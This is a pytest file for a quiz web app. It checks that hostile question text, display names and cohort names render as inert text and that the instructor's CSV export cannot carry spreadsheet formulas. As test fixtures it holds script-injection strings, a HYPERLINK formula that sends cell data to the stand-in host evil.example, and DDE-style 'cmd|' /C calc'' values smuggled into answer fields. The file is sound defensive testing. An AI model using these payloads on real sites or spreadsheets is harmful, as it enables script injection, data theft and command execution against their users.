"""Content is untrusted: hostile question text, display names, cohort names and problem notes
render as text, never as markup that runs (parsed with html.parser, not string matching)."""
from __future__ import annotations

import csv
import io

import pytest

from quizapp.render.markdown import render_inline, render_markdown
from tests.helpers import (
    HOSTILE_BLOCK,
    HOSTILE_NAME,
    HOSTILE_PAYLOADS,
    PASSWORD,
    active_content,
    add_user,
    build_untrusted,
    current_versions,
    follow_confirmation,
    insert_attempt,
    login,
    mailed_links,
    new_client,
    post_form,
)


@pytest.fixture(scope="module")
def untrusted(tmp_path_factory):
    return build_untrusted(tmp_path_factory.mktemp("untrusted"))


def _client(untrusted, who):
    return untrusted.learner if who == "learner" else untrusted.teacher


def test_every_page_with_hostile_content_renders_it_inert(untrusted):
    failures, shown = [], 0
    for label, (who, url) in untrusted.pages.items():
        response = _client(untrusted, who).get(url)
        assert response.status_code == 200, (label, url, response.status_code)
        found = active_content(response.text)
        if found:
            failures.append(f"{label} ({url}): {found[:4]}")
        shown += "alert(1)" in response.text
    assert not failures, "active content on pages:\n" + "\n".join(failures)
    assert shown >= len(untrusted.pages) - 1, "the payloads did not reach the pages, so the test proves nothing"


def test_the_display_name_and_cohort_name_are_shown_as_text(untrusted):
    home = untrusted.learner.get("/").text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in home  # the header's "Log out <name>", escaped
    cohorts = untrusted.teacher.get("/instructor/cohorts").text
    assert "&lt;svg onload=alert(1)&gt;" in cohorts and not active_content(cohorts)


@pytest.mark.parametrize("payload", HOSTILE_PAYLOADS + [HOSTILE_BLOCK])
def test_the_markdown_renderer_neutralises_each_payload(payload):
    for html in (render_markdown(payload), render_inline(payload)):
        assert not active_content(html), (payload, html)


def test_json_and_downloads_are_not_served_as_html(untrusted):
    teacher, learner = untrusted.teacher, untrusted.learner
    report = next(url for label, (_, url) in untrusted.pages.items() if label == "report with review")
    response = learner.get(report + ".json")
    assert response.status_code == 200 and response.mimetype == "application/json"
    cohort = next(url for label, (_, url) in untrusted.pages.items() if label == "instructor cohort")
    for suffix, mimetype in (("/responses.json", "application/json"), ("/responses.csv", "text/csv")):
        response = teacher.get(cohort + suffix)
        assert response.status_code == 200 and response.mimetype == mimetype, suffix
        response.get_data()  # a streamed body, read to its end (as a browser would) and so closed in order
        response.close()
    response = teacher.get("/instructor/bank/topics/xss.yaml")
    assert response.mimetype != "text/html" and response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers.get("X-Content-Type-Options") == "nosniff"


def test_the_cohort_csv_cannot_inject_spreadsheet_formulas(untrusted):
    """A learner controls their display name and their short answers; both reach the instructor's
    CSV export, which spreadsheets open. A cell starting with = + - @ (or tab / CR) is a formula
    there (CSV injection), so such cells must be neutralised, e.g. prefixed with a quote."""
    from sqlalchemy import select

    from quizapp.extensions import db
    from quizapp.models import Cohort, User

    app, teacher = untrusted.app, untrusted.teacher
    cohort_url = next(url for label, (_, url) in untrusted.pages.items() if label == "instructor cohort")
    with app.app_context():
        add_user("csv@example.org", "learner", name='=HYPERLINK("https://evil.example/?"&A1,"x")')
        db.session.commit()
        code = db.session.scalar(select(Cohort.join_code))
        short = current_versions()["t-short"]
        user_id = db.session.scalar(select(User.id).where(User.email == "csv@example.org"))
        attempts = [insert_attempt(user_id, [short], "everything", "tester") for _ in range(4)]
    learner = login(app, "csv@example.org")
    assert post_form(learner, "/cohorts/join", {"code": code}).status_code == 303
    for public_id, answer in zip(attempts, ("@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
                                            "-2+3+cmd|' /C calc'!A0", "=1+1"), strict=True):
        assert post_form(learner, f"/attempt/{public_id}/q/1", {"answer": answer, "action": "save"}
                         ).status_code == 303
        assert post_form(learner, f"/attempt/{public_id}/submit", {}).status_code in (302, 303)
    rows = list(csv.reader(io.StringIO(teacher.get(cohort_url + "/responses.csv").text)))
    dangerous = []
    for row in rows[1:]:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _is_number(cell)):
                dangerous.append(cell)
    assert not dangerous, f"formula cells in the cohort CSV export: {sorted(set(dangerous))}"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_registration_with_a_hostile_name_is_escaped_in_the_flash_and_header(untrusted):
    client = new_client(untrusted.app)
    response = post_form(client, "/auth/register", {"email": "n@example.org", "display_name": HOSTILE_NAME,
                                                     "password": PASSWORD, "confirm": PASSWORD})
    assert response.status_code == 302
    [link] = mailed_links(untrusted.app, "n@example.org", "Confirm")
    confirm_page = client.get(link).text  # names the account by its display name
    assert not active_content(confirm_page) and "alert(1)" in confirm_page
    response = follow_confirmation(client, "n@example.org")
    page = client.get(response.headers["Location"]).text  # the welcome flash and the header's name
    assert not active_content(page) and "alert(1)" in page
